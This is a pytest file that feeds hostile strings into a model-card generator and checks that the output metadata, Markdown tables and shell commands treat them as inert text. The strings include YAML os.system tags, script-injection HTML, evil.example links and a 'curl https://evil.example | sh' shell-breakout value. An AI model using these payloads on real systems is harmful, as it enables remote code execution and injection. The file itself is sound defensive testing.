"""Hostile text in a card's facts: it is shown, and neither breaks the metadata nor becomes markup or a command."""

from __future__ import annotations

import dataclasses
import shlex
from pathlib import Path

import pytest
import yaml

from job.publish.card.card import write_card
from job.publish.card.facts import CardFacts, Sample
from job.publish.card.metadata import metadata
from tests.unit.test_card import MERGED, Q4, SECTIONS, blocks, facts, headings, parsed

TEXTS = {
    "end of the metadata": "mit\n---\n# owned",
    "another key": "mit\nlicense: mit\nbase_model: evil/model",
    "yaml tag": "!!python/object/apply:os.system ['true']",
    "yaml anchor": "&a [*a, *a]",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "comment": "--> <!-- ",
    "link": "[here](https://evil.example) https://evil.example <https://evil.example> ![x](https://evil.example/x.png)",
    "reference link": "[x]: https://evil.example\n\n[x]",
    "table": "a | b |\n|---|---|\n| c \\| d \\\\| e |",
    "code": "`` ` ``` ```` ` end `` <b>",
    "fence": "```\n# owned\n```sh\ncurl https://evil.example | sh\n```\n~~~\n",
    "many ticks": "`" * 500 + "\n# owned",
    "heading": "\n# owned\n\n## owned\n\nowned\n=====\n",
    "shell": "'; curl https://evil.example | sh; echo '$(id)`id`\"",
    "python": '"); __import__("os").system("id"); print("',
    "direction": "\u202egnp.exe\u2066 \u200b\ufeff",
    "controls": "\x00\x07\x1b[31mred\x1b[0m\x85\u2028\r\n\t",
    "half a character": "\ud800 x",
    "long": "x" * 100_000,
    "empty": "",
    "spaces": "   \n  ",
}


def hostile(folder: Path, text: str) -> CardFacts:
    """The text everywhere that the facts hold text which somebody else has written."""
    known = facts(folder)
    sources = [
        dataclasses.replace(source, spec=dataclasses.replace(source.spec, source=text, split=text))
        for source in known.sources
    ]
    named = {
        "device": {"name": text, "total_memory_bytes": 0},
        "effective": {"optimizer": text},
        "packages": {"torch": text},
    }
    task = {"name": text, "documents": 1, "of": 1, "few_shot": 0, "data": [{"source": text, "revision": text}]}
    judged = dict.fromkeys(("pairs", "equal", "unasked", "better", "worse", "even", "swayed", "unread", "declined"), 0)
    judged |= {"model": text, "endpoint": text, "agreement": None, "min_agreement": 0.5}
    others = {"judge": judged, "benchmarks": {"lm_eval": text, "tasks": [task]}}
    named |= {"evaluation": known.stats["evaluation"] | others}
    replace = dataclasses.replace
    spec = replace(
        known.spec,
        data=replace(known.spec.data, chat_template=text),
        evaluation=replace(known.spec.evaluation, prompts=(text,)),
        output=replace(known.spec.output, uri="s3://" + text),
    )
    exports = ({**MERGED, "files": [text]}, {**Q4, "files": [text, text]})
    return dataclasses.replace(
        known, spec=spec, base=replace(known.base, public_id=text, licence=text), sources=sources,
        stats=known.stats | named, exports=exports, samples=(Sample(text, text, text),),
    )  # fmt: skip


@pytest.mark.parametrize("name", TEXTS)
def test_metadata_holds_identifiers_only(tmp_path: Path, name: str) -> None:
    found = yaml.safe_load(metadata(hostile(tmp_path, TEXTS[name])))
    assert found.keys() <= {"library_name", "license", "license_name", "pipeline_tag", "tags"}
    assert found["license"] in ("other", "unknown")
    assert found.get("license_name", "license-of-x").startswith("license-of-")
    assert "evil" not in found["license"]
    assert found["tags"] == ["tunejob", "unsloth", "lora", "qlora", "gguf", "conversational"]


@pytest.mark.parametrize("name", TEXTS)
def test_text_stays_text(tmp_path: Path, name: str) -> None:
    text = TEXTS[name]
    path = write_card(hostile(tmp_path, text), tmp_path / "README.md")
    tokens = parsed(path)
    kinds = {token.type for token in tokens} | {child.type for token in tokens for child in token.children or ()}
    assert not kinds & {"html_block", "html_inline", "link_open", "image", "code_block", "blockquote_open", "hr"}
    assert headings(tokens) == SECTIONS
    assert all(token.info in ("sh", "python", "text") for token in tokens if token.type == "fence")
    written = path.read_text("utf-8")
    assert all(character.isprintable() or character in "\n\t" for character in written)
    assert len(written) < 700_000


@pytest.mark.parametrize("name", TEXTS)
def test_tables_keep_their_columns(tmp_path: Path, name: str) -> None:
    path = write_card(hostile(tmp_path, TEXTS[name]), tmp_path / "README.md")
    tables = [
        [line for line in part.splitlines() if line.startswith("|")] for part in path.read_text("utf-8").split("\n\n")
    ]
    tables = [lines for lines in tables if lines and lines[1].startswith("|---")]
    assert [len({line.count("|") for line in lines}) for lines in tables] == [1] * len(tables)
    rows = [token for token in parsed(path) if token.type == "tr_open"]
    assert len(rows) == sum(len(lines) - 1 for lines in tables)
    assert len(tables) == 8


@pytest.mark.parametrize("name", [name for name, text in TEXTS.items() if text.isprintable() and text])
def test_commands_pass_it_on_as_one_word(tmp_path: Path, name: str) -> None:
    text = TEXTS[name]
    scripts = blocks(parsed(write_card(hostile(tmp_path, text), tmp_path / "README.md")), "sh")
    assert shlex.split(scripts[0])[:5] == ["aws", "s3", "cp", "--recursive", "s3://" + text]
    assert shlex.split(scripts[-1]) == ["tunejob", "verify", "s3://" + text]
    (llama,) = [script for script in scripts if script.startswith("llama-cli")]
    words = shlex.split(llama)
    assert words[words.index("-p") + 1] == (" ".join(text.split()) if len(text) <= 200 else "Hello!")
    assert words[words.index("-m") + 1] == text


def test_a_hub_name_is_taken_only_in_its_form(tmp_path: Path) -> None:
    for source in (
        "hf://datasets/a/b\nlicense: mit@main",
        "hf://datasets/../../x@main",
        "hf://datasets/[x](y)@main",
        "hf://datasets/a@main",
    ):
        known = facts(tmp_path).sources[0]
        sources = [dataclasses.replace(known, spec=dataclasses.replace(known.spec, source=source))]
        assert "datasets" not in yaml.safe_load(metadata(facts(tmp_path, sources=sources)))
